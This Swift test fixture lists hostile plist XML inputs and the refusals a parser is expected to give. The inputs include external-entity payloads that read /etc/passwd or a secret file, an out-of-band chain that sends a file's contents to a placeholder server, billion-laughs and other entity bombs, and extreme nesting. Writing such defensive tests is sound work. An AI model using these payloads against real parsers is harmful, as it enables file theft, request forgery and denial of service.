import XML

/// Those that somebody made to do harm.
extension ListFile {
  static let hostile = lures + bombs + depths

  private static let declared = "an entity is declared"
  private static let used = "<key>a</key><string>&a;</string>"

  /// A list that uses `&a;`, with these declarations on line 2.
  private static func entity(
    _ name: String, _ declarations: String, _ content: String = used
  ) -> ListFile {
    ListFile(
      name, Lists.xml(content, doctype: "<!DOCTYPE plist [\(declarations)]>"),
      .refusedAmongOthers(line: 2, declared))
  }

  private static let lures = [
    entity("an entity that is a file", "<!ENTITY a SYSTEM \"file://{folder}/secret.txt\">"),
    entity("an entity that is a path", "<!ENTITY a SYSTEM \"{folder}/secret.txt\">"),
    entity("an entity that is the system's", "<!ENTITY a SYSTEM \"file:///etc/passwd\">"),
    entity("an entity that is a web page", "<!ENTITY a SYSTEM \"{server}a\">"),
    entity("a public entity that is a web page", "<!ENTITY a PUBLIC \"x\" \"{server}a\">"),
    entity("an entity that nobody uses", "<!ENTITY a SYSTEM \"{server}a\">", ""),
    entity(
      "an entity in an attribute that is a web page", "<!ENTITY a SYSTEM \"{server}a\">",
      "<key>a</key><string x='&a;'/>"),
    entity("declarations that are a web page", "<!ENTITY % p SYSTEM \"{server}p.dtd\"> %p;"),
    entity("declarations that are a file", "<!ENTITY % p SYSTEM \"file://{folder}/x.dtd\"> %p;"),
    entity(
      "what is in a file sent to a web server",
      "<!ENTITY % f SYSTEM \"file://{folder}/secret.txt\">"
        + "<!ENTITY % p \"<!ENTITY &#37; s SYSTEM '{server}?%f;'>\">%p;%s;"),
    entity(
      "a picture that is a web page",
      "<!NOTATION n SYSTEM \"{server}n\"><!ENTITY a SYSTEM \"{server}a\" NDATA n>"),
    ListFile(
      "a DOCTYPE that is a web page",
      Lists.xml("<key>a</key><true/>", doctype: "<!DOCTYPE plist SYSTEM \"{server}x.dtd\">"),
      .holds(["a": .boolean(true)])),
    ListFile(
      "a public DOCTYPE that is a web page",
      Lists.xml("<key>a</key><true/>", doctype: "<!DOCTYPE plist PUBLIC \"x\" \"{server}x.dtd\">"),
      .holds(["a": .boolean(true)])),
    ListFile(
      "an entity of a DOCTYPE that is a web page",
      Lists.xml(used, doctype: "<!DOCTYPE plist SYSTEM \"{server}x.dtd\">"),
      .refused(line: 4, "a: entities are not expanded")),
    ListFile(
      "an entity of a DOCTYPE that is a file",
      Lists.xml(used, doctype: "<!DOCTYPE plist SYSTEM \"file://{folder}/x.dtd\">"),
      .refused(line: 4, "a: entities are not expanded")),
    ListFile(
      "an entity of a DOCTYPE that is a path",
      Lists.xml(used, doctype: "<!DOCTYPE plist SYSTEM \"{folder}/x.dtd\">"),
      .refused(line: 4, "a: entities are not expanded")),
    ListFile(
      "a file that is to be included",
      Lists.xml(
        "<key>a</key><xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' "
          + "href='file://{folder}/secret.txt'/>"),
      .refused(line: 4, "a: unknown element <xi:include>")),
    ListFile(
      "a web page that is to be included",
      Lists.xml(
        "<key>a</key><xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{server}a'/>"),
      .refused(line: 4, "a: unknown element <xi:include>")),
    ListFile(
      "a style sheet and a schema that are web pages",
      """
      <?xml version="1.0"?><?xml-stylesheet href="{server}x.xsl"?>
      <plist xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
        xsi:noNamespaceSchemaLocation="{server}x.xsd"><dict/></plist>
      """, .holds([:])),
  ]

  private static let bombs = [
    entity("a billion laughs", laughs(of: "<!ENTITY", "&"), "<key>a</key><string>&e9;</string>"),
    entity("a billion laughs of declarations", laughs(of: "<!ENTITY %", "&#37;") + "%e9;"),
    entity(
      "a billion laughs in an attribute", laughs(of: "<!ENTITY", "&"),
      "<key>a</key><string x='&e9;'/>"),
    entity("entities of each other", "<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">"),
    entity("an entity of itself", "<!ENTITY a \"&a;\">"),
    entity(
      "declarations of each other", "<!ENTITY % a \"&#37;b;\"><!ENTITY % b \"&#37;a;\">%a;"),
    entity("a declaration that is declared", "<!ENTITY % p \"<!ENTITY a 'x'>\">%p;"),
    // 100 KB, 40,000 times: 4 GB.
    entity(
      "one long entity used often", "<!ENTITY a \"\(String(repeating: "x", count: 100_000))\">",
      "<key>a</key><string>\(String(repeating: "&a;", count: 40_000))</string>"),
    entity(
      "a hundred thousand entities",
      (0..<40_000).map { "<!ENTITY e\($0) ''>" }.joined(), "<key>a</key><true/>"),
    ListFile(
      "attributes that the DOCTYPE adds everywhere",
      Lists.xml(
        String(repeating: "<key>a</key><string/>", count: 10_000),
        doctype: "<!DOCTYPE plist [<!ATTLIST string "
          + (0..<2_000).map { "a\($0) CDATA \"x\"" }.joined(separator: " ") + ">]>"),
      .refused(line: 2, "attributes are declared")),
  ]

  /// Ten of ten of ten …
  private static func laughs(of declaration: String, _ mark: String) -> String {
    "\(declaration) e0 \"ha\">"
      + (1..<10).map { level in
        "\(declaration) e\(level) \"\(String(repeating: "\(mark)e\(level - 1);", count: 10))\">"
      }.joined()
  }

  private static let depths = ["array", "dict", "string", "x"].flatMap { name in
    let open = String(repeating: "<\(name)>", count: 20_000)
    let close = String(repeating: "</\(name)>", count: 20_000)
    return [
      ListFile(
        "<\(name)> 20,000 deep, unclosed", Lists.xml("<key>a</key>" + open),
        .refusedAmongOthers(line: 4, "")),
      ListFile(
        "<\(name)> 20,000 deep", Lists.xml("<key>a</key>" + open + close),
        .refusedAmongOthers(line: 4, "")),
    ]
  }
}
